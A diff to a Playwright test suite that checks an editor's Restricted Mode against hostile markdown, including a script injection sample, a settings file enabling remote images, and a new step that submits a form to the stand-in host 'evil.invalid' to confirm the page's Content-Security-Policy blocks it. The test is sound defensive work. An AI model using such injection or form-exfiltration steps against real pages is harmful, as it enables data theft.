@@ -27,12 +27,12 @@ ${hostileMarkdown}
 - [x] two <script>window.hit='option'</script>
 `;
 
-/** The workspace wants what the person does not. */
+/** The workspace wants what the person did not. */
 const workspace = { 'hostile.practice.md': page, 'image.svg': hostileImage, '.vscode/settings.json': JSON.stringify({ 'interleave.remoteImages': true }) };
 
 describe('hostile content in Restricted Mode', () => {
   it('is read and practised, and nothing of it runs, covers, loads or leads anywhere', () =>
-    withWorkbench({ folder: temporaryFolder(workspace), trust: true, settings: { 'interleave.remoteImages': false } }, async (workbench) => {
+    withWorkbench({ folder: temporaryFolder(workspace), trust: true }, async (workbench) => {
       const asked: string[] = [];
       // What the policy of the page stops never comes this far.
       await workbench.browser.context.route('https://evil.invalid/**', async (route) => {
@@ -57,6 +57,17 @@ describe('hostile content in Restricted Mode', () => {
       await practice.getByText('command too').first().waitFor();
       assert.equal(await practice.evaluate(() => 'hit' in window), false);
       assert.equal(await workbench.page.evaluate(() => 'hit' in window), false);
+      // Whatever brought a form into the page: it is sent nowhere, though the page is gone then.
+      const policy = await practice.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
+      assert.match(policy, /form-action 'none'/u);
+      assert.match(policy, /img-src [^;]*data:/u);
+      assert.doesNotMatch(policy, /img-src [^;]* https: /u);
+      await practice.evaluate(() => {
+        const form = Object.assign(document.createElement('form'), { action: 'https://evil.invalid/sent', method: 'post' });
+        document.body.append(form);
+        form.submit();
+      });
+      await workbench.page.waitForTimeout(500);
       assert.deepEqual(asked, []);
       assert.equal(await workbench.page.locator('.terminal-wrapper').count(), 0);
     })).retries(0);
